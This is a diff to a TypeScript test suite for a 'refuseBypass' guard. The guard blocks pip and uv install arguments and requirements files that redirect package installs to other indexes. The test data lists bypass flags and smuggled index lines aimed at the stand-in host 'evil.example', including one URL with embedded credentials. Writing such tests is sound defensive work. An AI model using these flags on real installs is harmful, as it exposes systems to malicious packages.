@@ -12,37 +12,55 @@ const file = async (name: string, text: string) => {
   return name;
 };
 
-for (const args of [
-  ["-i", "https://evil.example/simple"],
-  ["-ihttps://evil.example/simple"],
-  ["-qi", "https://evil.example/simple"],
-  ["--index-url=https://evil.example"],
-  ["--index-u", "https://evil.example"],
-  ["--extra-index-url", "https://evil.example"],
-  ["--extra", "https://evil.example"],
-  ["-f", "wheels"],
-  ["--find-links=wheels"],
-  ["--no-index", "requests"],
-  ["--isolated", "requests"],
-  ["--proxy", "http://evil.example"],
-  ["--trusted-host", "evil.example"],
-  ["--default-index", "https://evil.example"],
-  ["--config-file", "uv.toml"],
-]) {
-  test(`refuseBypass: the argument ${args[0]} is refused`, async () => {
-    await assert.rejects(refuseBypass(["requests", ...args], folder), { code: "bypass-refused" });
+for (const [tool, ...args] of [
+  ["pip", "-i", "https://evil.example/simple"],
+  ["pip", "-ihttps://evil.example/simple"],
+  ["pip", "-qi", "https://evil.example/simple"],
+  ["pip", "--index-url=https://evil.example"],
+  ["pip", "--index-u", "https://evil.example"],
+  ["pip", "--index", "https://evil.example"],
+  ["pip", "--pypi-url", "https://evil.example"],
+  ["pip", "--extra-index-url", "https://evil.example"],
+  ["pip", "--extra", "https://evil.example"],
+  ["pip", "-f", "wheels"],
+  ["pip", "--find-links=wheels"],
+  ["pip", "--no-index", "requests"],
+  ["pip", "--isolated", "requests"],
+  ["pip", "--proxy", "http://evil.example"],
+  ["pip", "--trusted-host", "evil.example"],
+  ["uv", "-i", "https://evil.example/simple"],
+  ["uv", "-qihttps://evil.example/simple"],
+  ["uv", "-ei", "https://evil.example/simple"],
+  ["uv", "--index=https://evil.example"],
+  ["uv", "--default-index", "https://evil.example"],
+  ["uv", "--index-url", "https://evil.example"],
+  ["uv", "--extra-index-url", "https://evil.example"],
+  ["uv", "-f", "wheels"],
+  ["uv", "--find-links", "wheels"],
+  ["uv", "--no-index"],
+  ["uv", "--torch-backend=auto"],
+  ["uv", "--allow-insecure-host", "evil.example"],
+  ["uv", "--trusted-host", "evil.example"],
+  ["uv", "--config-file", "uv.toml"],
+] as const) {
+  test(`refuseBypass: the argument ${args[0]} of ${tool} is refused`, async () => {
+    await assert.rejects(refuseBypass(tool, ["requests", ...args], folder), { code: "bypass-refused" });
   });
 }
 
-for (const args of [
-  ["requests", "--target", "site"],
-  ["--no-deps", "--no-input", "--pre", "-q", "-U", "-t", "in-site"],
-  ["--index-strategy", "first-index"],
-  ["--python", "3.12", "-p", "3.12-if"],
-  ["--", "-i"],
-]) {
-  test(`refuseBypass: ${args.join(" ")} is let through`, async () => {
-    await refuseBypass(args, folder);
+for (const [tool, ...args] of [
+  ["pip", "requests", "--target", "site"],
+  ["pip", "--no-deps", "--no-input", "--pre", "-q", "-U", "-t", "in-site"],
+  ["pip", "--python", "3.12", "-C", "if"],
+  ["pip", "--", "-i"],
+  ["uv", "sync", "--extra", "dev"],
+  ["uv", "sync", "--all-extras", "--no-dev", "--frozen"],
+  ["uv", "add", "--index-strategy", "first-index", "--optional", "if"],
+  ["uv", "run", "--isolated", "--with", "rich", "-p3.12-if"],
+  ["uv", "lock", "--exclude-newer", "2026-01-01", "--no-progress"],
+] as const) {
+  test(`refuseBypass: ${[tool, ...args].join(" ")} is let through`, async () => {
+    await refuseBypass(tool, args, folder);
   });
 }
 
@@ -51,7 +69,7 @@ test("refuseBypass: a requirements file that names an index is refused by file a
     "bad.txt",
     "requests\n# a comment\n--extra-index-url https://user:secret@evil.example\n",
   );
-  await assert.rejects(refuseBypass(["-r", path], folder), (error: Error & { code?: string }) => {
+  await assert.rejects(refuseBypass("pip", ["-r", path], folder), (error: Error & { code?: string }) => {
     assert.equal(error.code, "bypass-refused");
     assert.match(error.message, /bad\.txt:3/);
     assert.doesNotMatch(error.message, /secret/);
@@ -69,16 +87,16 @@ test("refuseBypass: a requirements file inside another one is looked into, whate
     "--constraint inner.txt",
   ]) {
     const outer = await file("outer.txt", `${line}\n`);
-    await assert.rejects(refuseBypass([`--requirement=${outer}`], folder), { code: "bypass-refused" });
+    await assert.rejects(refuseBypass("pip", [`--requirement=${outer}`], folder), { code: "bypass-refused" });
   }
 });
 
 test("refuseBypass: requirements at a URL are refused, files that include each other too", async () => {
-  await assert.rejects(refuseBypass(["-r", "https://evil.example/r.txt"], folder), {
+  await assert.rejects(refuseBypass("pip", ["-r", "https://evil.example/r.txt"], folder), {
     code: "bypass-refused",
   });
   await file("loop.txt", "-r loop.txt\n");
-  await assert.rejects(refuseBypass(["-r", "loop.txt"], folder), { code: "bypass-refused" });
+  await assert.rejects(refuseBypass("pip", ["-r", "loop.txt"], folder), { code: "bypass-refused" });
 });
 
 test("refuseBypass: an ordinary requirements file is let through", async () => {
@@ -86,17 +104,26 @@ test("refuseBypass: an ordinary requirements file is let through", async () => {
     "good.txt",
     "requests==2.32.0 --hash=sha256:00\n-e .\nidna ; python_version > '3'\n",
   );
-  await refuseBypass(["-r", path], folder);
+  await refuseBypass("pip", ["-r", path], folder);
 });
 
-for (const args of [["-Ur"], ["-qr"], ["--req"], ["-Uc"], ["--overrides"]]) {
-  test(`refuseBypass: the file that ${args[0]} names is looked into`, async () => {
+for (const [tool, ...args] of [
+  ["pip", "-Ur"],
+  ["pip", "-qr"],
+  ["pip", "--req"],
+  ["pip", "-Uc"],
+  ["uv", "-r"],
+  ["uv", "-b"],
+  ["uv", "--overrides"],
+  ["uv", "--with-requirements"],
+] as const) {
+  test(`refuseBypass: the file that ${args[0]} of ${tool} names is looked into`, async () => {
     const path = await file("links.txt", "--find-links wheels\n");
-    await assert.rejects(refuseBypass([...args, path], folder), /links\.txt:1/);
+    await assert.rejects(refuseBypass(tool, [...args, path], folder), /links\.txt:1/);
   });
 }
 
 test("refuseBypass: a requirements file in an encoding that only pip guesses is refused", async () => {
   await writeFile(join(folder, "utf16.txt"), Buffer.from("\ufeff--find-links wheels\n", "utf16le"));
-  await assert.rejects(refuseBypass(["-r", "utf16.txt"], folder), { code: "bypass-refused" });
+  await assert.rejects(refuseBypass("pip", ["-r", "utf16.txt"], folder), { code: "bypass-refused" });
 });
